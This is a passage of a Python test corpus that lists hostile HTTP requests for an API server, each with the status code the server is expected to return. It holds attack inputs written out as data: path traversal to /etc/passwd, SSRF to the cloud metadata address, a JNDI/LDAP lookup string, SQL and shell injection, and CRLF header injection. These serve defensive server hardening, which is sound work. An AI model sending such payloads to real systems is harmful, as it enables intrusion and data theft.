"""The corpus: hostile requests by kind, each with the answer it must get, for whatever API is aimed at.

Placeholders such as `@read@` stand for what differs between APIs; `tests/support/corpus.py` says which there are. A
request that is answered 200 is odd, but healthy: the vendor is asked for exactly what was meant.
"""

from __future__ import annotations

import gzip
from collections.abc import Mapping
from typing import TypeAlias

from tests.support.corpus import HOST, Answer, Ending, Hostile

Expected: TypeAlias = "int | Answer | None"

KEY = b"Authorization: Bearer @key@\r\n"
CLOSE = b"Connection: close\r\n"
JSON = b"Content-Type: application/json\r\n"
READ = b"GET @read@ HTTP/1.1\r\n" + HOST + KEY + CLOSE
ACT_AND_STAY = b"POST @action@ HTTP/1.1\r\n" + HOST + KEY
ACT = ACT_AND_STAY + CLOSE
SIZED = b"Content-Length: @length@\r\n\r\n"
CHUNKED = b"Transfer-Encoding: chunked\r\n\r\n"
BODY = b"@hex@\r\n@body@\r\n"
"""The body as one chunk."""
LAST = b"0\r\n\r\n"
GOOD = ACT_AND_STAY + JSON + b"Content-Length: @size@\r\n\r\n@body@"
"""A healthy action on a connection that stays open."""

READ_METHODS = "GET, HEAD, OPTIONS"
ACTION_METHODS = "POST, OPTIONS"

CLOSED: Answer = frozenset({None})
REFUSED_OR_CLOSED: Answer = frozenset({None, 400})
"""Where a request ends before it is complete (RFC 9112, 8)."""
LENIENT: Answer = frozenset({200, 400})
"""Where RFC 9110 or RFC 9112 lets a server be lenient."""
TOO_LARGE: Answer = frozenset({400, 413, 431})
"""Where the RFCs ask for any 4xx."""
WAITED_OR_REFUSED: Answer = frozenset({400, 408, 413, 431})
"""Where it depends on the server whether it waits for a rest that cannot be good."""
MISDIRECTED: Answer = frozenset({400, 421})
UNREADABLE: Answer = frozenset({400, 415})
"""Where a media type is not written as one."""


def case(
    name: str,
    content: bytes | tuple[bytes, ...],
    expected: Expected | tuple[Expected, ...],
    *findings: str,
    actions: int = 0,
    carries: bytes = b"@body@",
    job: str | None = None,
    allow: str | None = None,
    pause: float = 0.0,
    ending: Ending = Ending.READS,
    closes: bool = False,
) -> Hostile:
    """A hostile request."""
    pieces = content if isinstance(content, tuple) else (content,)
    answers = expected if isinstance(expected, tuple) else (expected,)
    return Hostile(
        name,
        pieces,
        tuple(each if isinstance(each, frozenset) else frozenset({each}) for each in answers),
        findings,
        actions,
        carries,
        job,
        allow,
        pause,
        ending,
        closes,
    )


def path(name: str, target: bytes, expected: Expected, *findings: str) -> Hostile:
    """A GET of a target."""
    return case(
        f"path: {name}", b"GET " + target + b" HTTP/1.1\r\n" + HOST + KEY + CLOSE + b"\r\n", expected, *findings
    )


PATHS = (
    path("two slashes at the start", b"/@read@", 400, "C7"),
    path("another host after two slashes", b"//@mark@.test@read@", 400, "C7"),
    path("two slashes inside", b"@base@//@mark@", 400, "C7"),
    path("a slash at the end", b"@read@/", 400, "C7"),
    path("two slashes at the end", b"@read@//", 400, "C7"),
    path("five thousand slashes", b"/" * 5_000, 400, "C7"),
    path("a dot segment", b"@base@/./@mark@", 400, "C8"),
    path("a dot segment at the end", b"@read@/.", 400, "C8"),
    path("two dots that lead back", b"@base@/@mark@/..@read@", 400, "C8"),
    path("two dots at the end", b"@read@/..", 400, "C8"),
    path("two dots above the root", b"/../../../etc/passwd", 400, "C8"),
    path("encoded dots", b"@base@/%2e%2e@read@", 400, "C8"),
    path("encoded dots in upper case", b"@base@/%2E%2E@read@", 400, "C8"),
    path("dots of which one is encoded", b"@base@/.%2e@read@", 400, "C8"),
    path("an encoded dot", b"@base@/%2e@read@", 400, "C8"),
    path("dots encoded twice", b"@base@/%252e%252e/@mark@", 404, "C8"),
    path("dots with a parameter", b"@base@/..;/@mark@", 404, "C8"),
    path("dots with an encoded parameter", b"@base@/..%3B/@mark@", 404, "C8"),
    path("dots of full width", b"@base@/%EF%BC%8E%EF%BC%8E/@mark@", 404, "C8"),
    path("an encoded slash", b"@base@/@mark@%2Fx", 400, "C8"),
    path("an encoded slash in lower case", b"@base@%2f@mark@", 400, "C8"),
    path("an encoded slash at the end", b"@read@%2F", 400, "C8"),
    path("a slash encoded twice", b"@base@/@mark@%252Fx", 404, "C8"),
    path("a slash of full width", b"@base@/@mark@%EF%BC%8Fx", 404, "C8"),
    path("a backslash", b"@base@\\@mark@", 400, "C8"),
    path("an encoded backslash", b"@base@/@mark@%5Cx", 400, "C8"),
    path("backslashes that lead back", b"@base@/..%5c..%5c@mark@", 400, "C8"),
    path("an encoded NUL", b"@read@%00", 400, "C8"),
    path("an encoded NUL before an extension", b"@read@%00.json", 400, "C8"),
    path("an encoded line feed at the end", b"@read@%0A", 400, "C7"),
    path("an encoded line break with a field", b"@read@%0D%0ASet-Cookie:%20@mark@", 400, "C7"),
    path("an encoded tab", b"@read@%09", 400, "C8"),
    path("an encoded escape sequence", b"@base@/%1B%5B31m@mark@", 400, "C8"),
    path("an encoded DEL", b"@read@%7F", 400, "C8"),
    path("a NUL", b"@read@\x00", 400, "C8"),
    path("a DEL", b"@read@\x7f", 400),
    path("a tab", b"@base@/a\tb", 400),
    path("a space", b"@base@/a b", 400),
    path("a form feed", b"@base@/a\x0cb", 400),
    path("a percent sign at the end", b"@read@%", 400, "C8"),
    path("half an encoded byte", b"@read@%4", 400, "C8"),
    path("no hexadecimal digits", b"@base@/%zz@mark@", 400, "C8"),
    path("the encoding of old scripts", b"@base@/%u002e%u002e", 400, "C8"),
    path("an overlong dot", b"@base@/%c0%ae%c0%ae/@mark@", 400, "C8"),
    path("an overlong slash", b"@base@/@mark@%c0%afx", 400, "C8"),
    path("a slash of three bytes", b"@base@/@mark@%e0%80%afx", 400, "C8"),
    path("half of a surrogate pair", b"@base@/%ed%a0%80@mark@", 400, "C8"),
    path("both halves of a surrogate pair", b"@base@/%ed%a0%bd%ed%b8%80", 400, "C8"),
    path("a character beyond Unicode", b"@base@/%f4%90%80%80", 400, "C8"),
    path("a continuation byte alone", b"@base@/%80", 400, "C8"),
    path("a character cut off", b"@base@/%e2%82", 400, "C8"),
    path("bytes that are never UTF-8", b"@base@/%fe%ff", 400, "C8"),
    path("bytes beyond ASCII", b"@base@/\xc3\xa9", 400),
    path("a byte of Latin-1", b"@base@/\xe9", 400),
    path("a character half encoded", b"@base@/%C3\xa9", 400),
    path("a parameter of a segment", b"@read@;x=@mark@", 404),
    path("an encoded parameter of a segment", b"@read@%3Bx", 404),
    path("an extension", b"@read@.json", 404),
    path("a space at the end", b"@read@%20", 404),
    path("a plus sign at the end", b"@read@+", 404),
    path("a line separator at the end", b"@read@%E2%80%A8", 404, "C7"),
    path("a byte order mark at the end", b"@read@%EF%BB%BF", 404),
    path("a fragment", b"@read@#@mark@", 400, "C8"),
    path("a fragment after a query", b"@read@?#@mark@", 400, "C8"),
    path("a template", b"@base@/{{7*7}}@mark@", 404),
    path("a script", b"@base@/%3Cscript%3E@mark@", 404),
    path("a lookup of a logger", b"@base@/$%7Bjndi:ldap:@mark@%7D", 404),
    path("eight thousand segments", b"@base@" + b"/a" * 8_000, 404, "C12"),
    path("17 KB", b"@read@/" + b"a" * 17_000, 414, "C12"),
    path("17 KB, encoded", b"@read@/" + b"%61" * 5_700, 414, "C12"),
    path("200 KB", b"@read@/" + b"a" * 200_000, 414, "C12"),
    path("a query of 17 KB", b"@read@?" + b"a" * 17_000, 414, "C12"),
    path("a query of 200 KB", b"@read@?" + b"a" * 200_000, 414, "C12"),
    path("a query with an encoded NUL", b"@read@?x=%00@mark@", 400, "C8"),
    path("a query with an encoded line feed", b"@read@?x=@mark@%0A", 400, "C8"),
    path("a query with an encoded line break as its name", b"@read@?%0D%0A@mark@=x", 400, "C8"),
    path("a query with bytes that are never UTF-8", b"@read@?x=%ff", 400, "C5"),
    path("a query with an overlong slash", b"@read@?x=%c0%af", 400, "C5"),
    path("a query with a percent sign", b"@read@?x=%", 400),
    path("a query with bytes beyond ASCII", b"@read@?x=\xc3\xa9", 400),
    path("a query of a name that nobody knows", b"@read@?@mark@%20=1", 400, "C19"),
    path("a query with a list", b"@read@?x[]=1", 400, "C19"),
    path("a query with two question marks", b"@read@??", 400, "C19"),
    path("a query of an equals sign", b"@read@?=", 400, "C19"),
    path("a query with the key", b"@read@?access_token=@mark@", 400, "C20"),
    path("three thousand parameters", b"@read@?" + b"x=1&" * 3_000, 400, "C12", "C19"),
    path("a prototype as a parameter", b"@read@?__proto__[x]=1", 400, "C19"),
    path("the document of Connexion", b"@base@/openapi.json", 404, "C18"),
    path("the document of Connexion as YAML", b"@base@/openapi.yaml", 404, "C18"),
    path("the page of Connexion", b"@base@/ui", 404, "C18"),
    path("the page of Connexion with its slash", b"@base@/ui/", 400, "C18", "C7"),
    path("the document of a Swagger", b"/swagger.json", 404, "C18"),
    path("a repository", b"/.git/config", 404, "C18"),
    path("an environment", b"/.env", 404, "C18"),
    path("metrics", b"/metrics", 404, "C18"),
    path("a program of a web server", b"/cgi-bin/.%2e/.%2e/.%2e/bin/sh", 400, "C8"),
    path("a file beside the page's own", b"/docs/assets/../../../etc/passwd", 400, "C8"),
    path("an encoded file beside the page's own", b"/docs/assets/..%2f..%2fetc%2fpasswd", 400, "C8"),
    path("a file beside the page's own, filtered once", b"/docs/assets/....//....//etc/passwd", 400, "C8"),
    path("a file of the page with a NUL", b"/docs/assets/swagger-ui.css%00.js", 400, "C8"),
    path("a problem that is a script", b"/problems/%3Cscript%3E@mark@", 404),
)


def target(name: str, request_line: bytes, expected: Expected, *findings: str, fields: bytes = HOST) -> Hostile:
    """A request line with the key, and `fields` that name a host."""
    content = request_line + b"\r\n" + fields + KEY + CLOSE + b"\r\n"
    return case(f"target: {name}", content, expected, *findings)


TARGETS = (
    target("absolute", b"GET http://@host@@read@ HTTP/1.1", 200),
    target("absolute, in upper case", b"GET HTTP://@HOST@@read@ HTTP/1.1", 200),
    target("absolute, and another Host", b"GET http://@host@@read@ HTTP/1.1", 200, fields=b"Host: evil.test\r\n"),
    target("absolute, another host", b"GET http://evil.test@read@ HTTP/1.1", 421, "C7"),
    target("absolute, another host with a port", b"GET http://evil.test:80@read@ HTTP/1.1", 421, "C7"),
    target("absolute, an address of a cloud", b"GET http://169.254.169.254/latest/meta-data HTTP/1.1", 421),
    target("absolute, loopback", b"GET http://127.0.0.1@read@ HTTP/1.1", 421),
    target("absolute, loopback of IPv6", b"GET http://[::1]@read@ HTTP/1.1", 421),
    target("absolute, loopback of IPv6 with a port", b"GET http://[::1]:80@read@ HTTP/1.1", 421),
    target("absolute, with a user", b"GET http://user:@mark@@@host@@read@ HTTP/1.1", 400),
    target("absolute, with a user that looks like a host", b"GET http://evil.test@@host@@read@ HTTP/1.1", 400),
    target(
        "absolute, with a user that looks like our host", b"GET http://@host@@evil.test@read@ HTTP/1.1", MISDIRECTED
    ),
    target("absolute, no host", b"GET http://@read@ HTTP/1.1", 400),
    target("absolute, a host in percent-encoding", b"GET http://@host@%2e@read@ HTTP/1.1", 400),
    target("absolute, a port that is none", b"GET http://@host@:x@read@ HTTP/1.1", 400),
    target("absolute, a port that is too large", b"GET http://@host@:99999@read@ HTTP/1.1", 400),
    target("absolute, two slashes", b"GET http://@host@/@read@ HTTP/1.1", 400, "C7"),
    target("absolute, two dots", b"GET http://@host@/..@read@ HTTP/1.1", 400, "C8"),
    target("absolute, a secure scheme on an open port", b"GET https://@host@@read@ HTTP/1.1", MISDIRECTED),
    target("absolute, another scheme", b"GET ftp://@host@@read@ HTTP/1.1", MISDIRECTED),
    target("absolute, a scheme of scripts", b"GET javascript://@host@@read@ HTTP/1.1", MISDIRECTED),
    target("absolute, a scheme of files", b"GET file:///etc/passwd HTTP/1.1", MISDIRECTED),
    target("absolute, without Host", b"GET http://@host@@read@ HTTP/1.1", 400, fields=b""),
    target("absolute, with two Hosts", b"GET http://@host@@read@ HTTP/1.1", 400, "C20", fields=HOST + HOST),
    target("absolute, with a Host that is none", b"GET http://@host@@read@ HTTP/1.1", 400, fields=b"Host: a b\r\n"),
    target("without a slash at the start", b"GET x@read@ HTTP/1.1", 400),
    target("a query alone", b"GET ?x HTTP/1.1", 400),
    target("the asterisk", b"GET * HTTP/1.1", 400),
    target("the asterisk, for OPTIONS", b"OPTIONS * HTTP/1.1", frozenset({200, 204, 400})),
    target("a host and a port", b"GET @host@:80 HTTP/1.1", 400),
    target("a host and a port, for CONNECT", b"CONNECT @host@:80 HTTP/1.1", 400, "C10"),
    target("another host and a port, for CONNECT", b"CONNECT evil.test:443 HTTP/1.1", 400, "C10"),
    target("a path, for CONNECT", b"CONNECT @read@ HTTP/1.1", frozenset({400, 405}), "C10"),
    target("a fragment, for an action", b"POST @action@#@mark@ HTTP/1.1", 400, "C8"),
)


def line(name: str, request_line: bytes, expected: Expected, *findings: str) -> Hostile:
    """A request line, and header fields that are good."""
    return case(f"line: {name}", request_line + b"\r\n" + HOST + KEY + CLOSE + b"\r\n", expected, *findings)


LINES = (
    line("HTTP/1.0", b"GET @read@ HTTP/1.0", 200),
    line("HTTP/0.9", b"GET @read@ HTTP/0.9", 400),
    line("no version", b"GET @read@", 400),
    line("no version but a space", b"GET @read@ ", 400),
    line("HTTP/1.2", b"GET @read@ HTTP/1.2", 400),
    line("HTTP/1.10", b"GET @read@ HTTP/1.10", 400),
    line("HTTP/1.", b"GET @read@ HTTP/1.", 400),
    line("HTTP/1", b"GET @read@ HTTP/1", 400),
    line("HTTP/2.0", b"GET @read@ HTTP/2.0", 400),
    line("HTTP/3.0", b"GET @read@ HTTP/3.0", 400),
    line("http/1.1", b"GET @read@ http/1.1", 400),
    line("HTTP/1.1 and more", b"GET @read@ HTTP/1.1 @mark@", 400),
    line("a space at the end", b"GET @read@ HTTP/1.1 ", 400),
    # The server's parser knows these two protocols, does not say which one it read, and reads the same request.
    line("another protocol", b"GET @read@ RTSP/1.0", LENIENT),
    line("OPTIONS of another protocol", b"OPTIONS @read@ RTSP/1.0", LENIENT),
    line("a method of another protocol", b"DESCRIBE @read@ RTSP/1.0", frozenset({400, 405})),
    line("a protocol of streams", b"SOURCE @read@ ICE/1.0", frozenset({400, 405})),
    line("a method of another protocol in HTTP", b"DESCRIBE @read@ HTTP/1.1", 400, "C10"),
    line("two spaces before the target", b"GET  @read@ HTTP/1.1", LENIENT),
    line("two spaces before the version", b"GET @read@  HTTP/1.1", LENIENT),
    line("tabs", b"GET\t@read@\tHTTP/1.1", LENIENT),
    line("a space at the start", b" GET @read@ HTTP/1.1", 400),
    line("a tab at the start", b"\tGET @read@ HTTP/1.1", 400),
    line("no target", b"GET HTTP/1.1", 400),
    line("no method", b" @read@ HTTP/1.1", 400),
    line("nothing but a version", b"HTTP/1.1", 400),
    line("an answer", b"HTTP/1.1 200 OK", 400),
    line("two empty lines before", b"\r\n\r\nGET @read@ HTTP/1.1", 200),
    line("a line feed before", b"\nGET @read@ HTTP/1.1", LENIENT),
    line("a carriage return before", b"\rGET @read@ HTTP/1.1", LENIENT),
    line("a NUL before", b"\x00GET @read@ HTTP/1.1", 400),
    line("a byte order mark before", b"\xef\xbb\xbfGET @read@ HTTP/1.1", 400),
    line("a carriage return inside", b"GET @read@ HTTP/1.1\r", 400),
    line("a line feed inside", b"GET @read@ HTTP/1.1\nX: @mark@", 400),
    line("nine thousand bytes of method", b"G" * 9_000 + b" @read@ HTTP/1.1", 400),
    case("line: ends with a line feed", b"GET @read@ HTTP/1.1\n" + HOST + KEY + CLOSE + b"\r\n", 400),
    case("line: a greeting of TLS", b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + b"\x5a" * 500, 400),
    case("line: a greeting of old TLS", b"\x80\x2e\x01\x00\x02\x00\x15\x00\x00\x00\x10" + b"\x5a" * 40, 400),
    case("line: a greeting of HTTP/2", b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\x00\x00\x00\x04\x00\x00\x00\x00\x00", 400),
    case("line: a greeting of SSH", b"SSH-2.0-@mark@\r\n", 400),
    case("line: a greeting of mail", b"EHLO @mark@\r\n", 400),
    case("line: a command of a cache", b"*1\r\n$4\r\nPING\r\n", 400),
    case(
        "line: a desktop from afar",
        b"\x03\x00\x00\x13\x0e\xe0\x00\x00\x00\x00\x00\x01\x00\x08\x00\x03\x00\x00\x00",
        400,
    ),
    case("line: a proxy says who calls", b"PROXY TCP4 192.0.2.1 192.0.2.2 56324 443\r\n" + READ + b"\r\n", 400),
    case("line: a proxy says it in binary", b"\r\n\r\n\x00\r\nQUIT\n\x21\x11\x00\x0c" + READ + b"\r\n", 400),
    case("line: a hundred NULs", b"\x00" * 100, 400),
    case("line: all bytes", bytes(range(255, -1, -1)), 400),
    case("line: HTTP/0.9 as it was", b"GET @read@\r\n\r\n", 400),
    case("line: HTTP/1.0 without Host", b"GET @read@ HTTP/1.0\r\n" + KEY + b"\r\n", 200),
    case(
        "line: HTTP/1.0 that would stay",
        b"GET @read@ HTTP/1.0\r\n" + KEY + b"Connection: keep-alive\r\n\r\n",
        200,
    ),
)


def read_by(name: str, method: bytes, expected: Expected, *findings: str, rest: bytes = b"\r\n") -> Hostile:
    """A method for what can only be read."""
    content = method + b" @read@ HTTP/1.1\r\n" + HOST + KEY + CLOSE + rest
    return case(f"method: {name}, to read", content, expected, *findings, allow=READ_METHODS)


def act_by(name: str, method: bytes, expected: Expected, *findings: str, more: bytes = b"") -> Hostile:
    """A method for an action, with a body that is good."""
    content = method + b" @action@ HTTP/1.1\r\n" + HOST + KEY + CLOSE + more + JSON + SIZED + b"@body@"
    return case(f"method: {name}, to act", content, expected, *findings, allow=ACTION_METHODS)


METHODS = (
    *(
        read_by(method.decode(), method, 405, "C10")
        for method in (b"POST", b"PUT", b"PATCH", b"DELETE", b"TRACE", b"PROPFIND", b"QUERY", b"M-SEARCH", b"PURGE")
    ),
    *(
        act_by(method.decode(), method, 405, "C10")
        for method in (b"GET", b"PUT", b"PATCH", b"DELETE", b"TRACE", b"LOCK", b"LINK", b"SEARCH", b"SUBSCRIBE")
    ),
    act_by("HEAD", b"HEAD", 405, "C9", "C10"),
    read_by("HEAD", b"HEAD", 200, "C9"),
    read_by("HEAD with a body", b"HEAD", 415, "C9", "C15", rest=JSON + b"Content-Length: 2\r\n\r\n[]"),
    read_by("OPTIONS", b"OPTIONS", 200, "C10"),
    read_by("OPTIONS with a body", b"OPTIONS", 200, "C10", rest=JSON + b"Content-Length: 2\r\n\r\n{}"),
    read_by("POST with a body", b"POST", 405, "C10", rest=JSON + SIZED + b"@body@"),
    read_by(
        "POST with a form", b"POST", 405, "C10", "C14", rest=b"Content-Type: multipart/form-data\r\n" + SIZED + b"x"
    ),
    read_by("TRACE with a secret", b"TRACE", 405, "C10", rest=b"Cookie: @mark@\r\n\r\n"),
    read_by("in lower case", b"get", 400),
    read_by("in mixed case", b"Get", 400),
    read_by("that nobody knows", b"FROBNICATE", 400),
    read_by("with more letters", b"GETX", 400),
    read_by("with a dash", b"GET-X", 400),
    read_by("with a NUL", b"GET\x00", 400),
    read_by("beyond ASCII", b"G\xc3\x89T", 400),
    read_by("an escape sequence", b"\x1b[31mGET", 400),
    read_by("of HTTP/2 itself", b"PRI", 400),
    act_by("overridden by a field", b"GET", 405, "C10", more=b"X-HTTP-Method-Override: POST\r\n"),
    act_by("overridden by another field", b"GET", 405, "C10", more=b"X-Method-Override: POST\r\n"),
    act_by("in two words", b"PO ST", 400),
    case("method: HEAD of nothing", b"HEAD @base@/@mark@ HTTP/1.1\r\n" + HOST + KEY + CLOSE + b"\r\n", 404, "C9"),
    case("method: HEAD without a key", b"HEAD @read@ HTTP/1.1\r\n" + HOST + CLOSE + b"\r\n", 401, "C9"),
    case("method: OPTIONS without a key", b"OPTIONS @read@ HTTP/1.1\r\n" + HOST + CLOSE + b"\r\n", 200, "C10"),
    case("method: OPTIONS of nothing", b"OPTIONS @base@/@mark@ HTTP/1.1\r\n" + HOST + CLOSE + b"\r\n", 404, "C10"),
    case("method: DELETE without a key", b"DELETE @read@ HTTP/1.1\r\n" + HOST + CLOSE + b"\r\n", 405, "C10"),
    case("method: DELETE of nothing", b"DELETE @base@/@mark@ HTTP/1.1\r\n" + HOST + CLOSE + b"\r\n", 404, "C10"),
)


def identified(name: str, segment: bytes, expected: Expected, *findings: str, job: str | None = None) -> Hostile:
    """An action without a body on a job of some id, as it is written in a path."""
    content = b"POST @jobs@/" + segment + b"@verb@ HTTP/1.1\r\n" + HOST + KEY + CLOSE + b"\r\n"
    return case(f"id: {name}", content, expected, *findings, actions=1, carries=b"", job=job)


IDS = (
    identified("a dot", b".", 400, "C8"),
    identified("two dots", b"..", 400, "C8"),
    identified("two encoded dots", b"%2e%2E", 400, "C8"),
    identified("three dots", b"...", 200, "C8", job="..."),
    identified("two dots encoded twice", b"%252e%252e", 200, "C8", job="%2e%2e"),
    identified("two dots of full width", b"%EF%BC%8E%EF%BC%8E", 200, "C8", job="．．"),  # noqa: RUF001 - meant
    identified("an encoded slash", b"@mark@%2fx", 400, "C8"),
    identified("a slash encoded twice", b"a%252Fb", 200, "C8", job="a%2Fb"),
    identified("a slash that divides", b"a%E2%88%95b", 200, "C8", job="a∕b"),  # noqa: RUF001 - meant
    identified("a backslash", b"a\\b", 400, "C8"),
    identified("an encoded backslash", b"a%5Cb", 400, "C8"),
    identified("an encoded NUL", b"a%00b", 400, "C8"),
    identified("an encoded line feed", b"@mark@%0A", 400, "C7", "C8"),
    identified("a field after a line break", b"a%0D%0AX-Key:%20@mark@", 400, "C8"),
    identified("an escape sequence", b"%1B[31m@mark@", 400, "C8"),
    identified("an escape sequence of one character", b"%C2%9B31m", 200, "C8", job="\x9b31m"),
    identified("a bell", b"%07", 400, "C8"),
    identified("a line separator", b"%E2%80%A8", 200, "C8", job="\N{LINE SEPARATOR}"),
    identified("a next line", b"%C2%85", 200, "C8", job="\x85"),
    identified("text from right to left", b"a%E2%80%AEb", 200, "C8", job="a\N{RIGHT-TO-LEFT OVERRIDE}b"),
    identified("a byte order mark", b"%EF%BB%BF", 200, "C8", job="\N{ZERO WIDTH NO-BREAK SPACE}"),
    identified("a letter and its accent", b"e%CC%81", 200, "C8", job="e\N{COMBINING ACUTE ACCENT}"),
    identified("the last character of Unicode", b"%F4%8F%BF%BF", 200, "C8", job="\U0010ffff"),
    identified("beyond Unicode", b"%F4%90%80%80", 400, "C8"),
    identified("half of a surrogate pair", b"%ED%A0%80", 400, "C8"),
    identified("an overlong dot", b"%C0%AE%C0%AE", 400, "C8"),
    identified("bytes that are never UTF-8", b"@mark@%FF", 400, "C8"),
    identified("a percent sign", b"@mark@%", 400, "C8"),
    identified("percent signs for a format", b"%25s%25n%25x", 200, "C8", job="%s%n%x"),
    identified("a template", b"{{7*7}}", LENIENT, job="{{7*7}}"),
    identified("an encoded template", b"%7B%7B7*7%7D%7D", 200, job="{{7*7}}"),
    identified("a lookup of a logger", b"$%7Bjndi:ldap:evil.test%7D", 200, job="${jndi:ldap:evil.test}"),
    identified("a statement of a database", b"'%20OR%201=1;--", 200, job="' OR 1=1;--"),
    identified("a command of a shell", b"$(id)%7C%60id%60", 200, job="$(id)|`id`"),
    identified("a script", b"%3Cscript%3E", 200, job="<script>"),
    identified("an option of a program", b"--help", 200, job="--help"),
    identified("a query", b"a%3Fb=c%26d", 200, "C8", job="a?b=c&d"),
    identified("a query that is one", b"@mark@?b", 405, "C8", "C10"),
    identified("a fragment", b"a%23b", 200, "C8", job="a#b"),
    identified("a fragment that is one", b"a#b", 400, "C8"),
    identified("a parameter", b"a;b=c", 200, "C8", job="a;b=c"),
    identified("a host", b"@evil.test", 200, "C8", job="@evil.test"),
    identified("the URL of a cloud", b"http:169.254.169.254", 200, "C8", job="http:169.254.169.254"),
    identified("the URL of a cloud with its slashes", b"http:%2F%2F169.254.169.254", 400, "C8"),
    identified("a space", b"%20", 200, "C8", job=" "),
    identified("a space that is one", b"a b", 400, "C8"),
    identified("a plus sign", b"+", 200, "C8", job="+"),
    identified("an asterisk", b"*", 200, job="*"),
    identified("a prototype", b"__proto__", 200, job="__proto__"),
    identified("nothing", b"null", 200, job="null"),
    identified("no number", b"NaN", 200, job="NaN"),
    identified("an empty one", b"", 400, "C7"),
    identified("256 letters", b"a" * 256, 200, "C12", job="a" * 256),
    identified("257 letters", b"a" * 257, 400, "C12"),
    identified("256 characters of four bytes", b"%F0%9F%98%80" * 256, 200, "C12", job="\N{GRINNING FACE}" * 256),
    identified("8,000 letters", b"a" * 8_000, 400, "C12"),
    identified("17 KB", b"a" * 17_000, 414, "C12"),
    identified("a byte of Latin-1", b"\xe9", 400, "C8"),
    identified("the verb", b"cancel", 200, "C8", job="cancel"),
)

VERBS_AS_SEGMENTS = (
    identified("the vendor's verb", b"a:cancel", 200, "C8", job="a:cancel"),
    identified("the vendor's verb twice", b"a:b:cancel", 200, "C8", job="a:b:cancel"),
    identified("the vendor's verb, encoded", b"%3Acancel", 200, "C8", job=":cancel"),
    identified("the verb twice", b"cancel/cancel", 404, "C8"),
    case("id: the vendor's verb alone", ACT.replace(b"@action@", b"@jobs@/a:cancel") + b"\r\n", 405, "C8", "C10"),
    case("id: the vendor's verb alone, encoded", ACT.replace(b"@action@", b"@jobs@/a%3Acancel") + b"\r\n", 405, "C8"),
    case("id: the verb in the place of the id", ACT.replace(b"@action@", b"@jobs@/cancel") + b"\r\n", 405, "C8", "C10"),
    case("id: the verb encoded", ACT.replace(b"@action@", b"@jobs@/a%2Fcancel") + b"\r\n", 400, "C8"),
    case("id: the verb in upper case", ACT.replace(b"@action@", b"@jobs@/a/CANCEL") + b"\r\n", 404, "C8"),
    case("id: a verb that nobody knows", ACT.replace(b"@action@", b"@jobs@/a/@mark@") + b"\r\n", 404, "C8"),
)
"""Of APIs where an action is a segment of the path, so that a colon is a part of the id."""


def asked(name: str, query: bytes, *findings: str) -> Hostile:
    """A list of jobs with a query that does not fit."""
    content = b"GET @jobs@?" + query + b" HTTP/1.1\r\n" + HOST + KEY + CLOSE + b"\r\n"
    return case(f"query: {name}", content, 400, *findings)


PARAMETERS = (
    asked("a number with a sign", b"limit=%2B5", "C19"),
    asked("a number with a space", b"limit=+5", "C19"),
    asked("a number in Arabic digits", b"limit=%D9%A5", "C19"),
    asked("a number in digits of full width", b"limit=%EF%BC%95", "C19"),
    asked("a number in another notation", b"limit=5e0", "C19"),
    asked("a number of many digits", b"limit=" + b"9" * 5_000, "C5", "C19"),
    asked("no number", b"limit=NaN", "C6", "C19"),
    asked("a number twice", b"limit=5&limit=6", "C19", "C20"),
    asked("a number twice, once encoded", b"limit=5&%6Cimit=5", "C19", "C20"),
    asked("a word with a line feed", b"status=queued%0A", "C19"),
    asked("a word that nobody knows", b"status=@mark@", "C19"),
    asked("a cursor that is a path", b"cursor=..%2F..%2F@mark@", "C19"),
    *(
        case(
            f"query: a dry run that is {name}",
            ACT.replace(b"@action@", b"@action@?dryRun=" + value) + b"\r\n",
            400,
            "C19",
        )
        for name, value in {
            "shouted": b"TRUE",
            "a number": b"1",
            "empty": b"",
            "and is not": b"true&dryRun=false",
            "followed by a line feed": b"true%0A",
            "followed by a parameter": b"true;x=1",
        }.items()
    ),
    case("query: a preference of 257 letters", ACT + b"Prefer: " + b"x" * 257 + b"\r\n\r\n", 400, "C12", "C19"),
    case("query: forty long preferences", ACT + (b"Prefer: " + b"x" * 20 + b"\r\n") * 40 + b"\r\n", 400, "C12", "C19"),
)
"""Of the unified API, which has these parameters."""


def hosted(name: str, fields: bytes, expected: Expected, *findings: str) -> Hostile:
    """A read, with these fields instead of Host."""
    return case(f"host: {name}", b"GET @read@ HTTP/1.1\r\n" + fields + KEY + CLOSE + b"\r\n", expected, *findings)


HOSTS = (
    hosted("none", b"", 400),
    hosted("empty", b"Host:\r\n", 400),
    hosted("another", b"Host: evil.test\r\n", 421, "C7"),
    hosted("a domain below ours", b"Host: x.@host@\r\n", 421, "C7"),
    hosted("a domain above ours", b"Host: @host@.evil.test\r\n", 421, "C7"),
    hosted("ours with a dot", b"Host: @host@.\r\n", 200),
    hosted("ours with a port", b"Host: @host@:8080\r\n", 200),
    hosted("ours in upper case", b"HOST: @HOST@\r\n", 200),
    hosted("ours with a port that is none", b"Host: @host@:x\r\n", 400),
    hosted("ours with a port of spaces", b"Host: @host@: 80\r\n", 400),
    hosted("ours as a port", b"Host: evil.test:@host@\r\n", 400),
    hosted("ours and another", b"Host: @host@, evil.test\r\n", 400),
    hosted("ours with a user", b"Host: user@@host@\r\n", 400),
    hosted("ours as a user", b"Host: @host@@evil.test\r\n", 400),
    hosted("ours with a path", b"Host: @host@/@mark@\r\n", 400),
    hosted("ours with a query", b"Host: @host@?@mark@\r\n", 400),
    hosted("ours with a backslash", b"Host: @host@\\@evil.test\r\n", 400),
    hosted("ours as a URL", b"Host: http://@host@\r\n", 400),
    hosted("ours in percent-encoding", b"Host: @host@%2E\r\n", 400),
    hosted("ours beyond ASCII", b"Host: @host@\xe9\r\n", 400),
    hosted("loopback", b"Host: localhost\r\n", 421),
    hosted("an address of loopback", b"Host: 127.0.0.1\r\n", 421),
    hosted("an address of loopback of IPv6", b"Host: [::1]:8080\r\n", 421),
    hosted("half an address of IPv6", b"Host: [::1\r\n", 400),
    hosted("an address of a cloud", b"Host: 169.254.169.254\r\n", 421),
    hosted("of 300 letters", b"Host: " + b"a" * 300 + b"\r\n", 421),
    hosted("twice", HOST + HOST, 400, "C20"),
    hosted("twice, ours first", HOST + b"Host: evil.test\r\n", 400, "C20", "C7"),
    hosted("twice, ours last", b"Host: evil.test\r\n" + HOST, 400, "C20", "C7"),
    hosted("twice, once in another line", HOST + b"X: y\r\n Host: evil.test\r\n", 400, "C20"),
    hosted(
        "another in what proxies say", HOST + b"X-Forwarded-Host: evil.test\r\nForwarded: host=evil.test\r\n", 200, "C7"
    ),
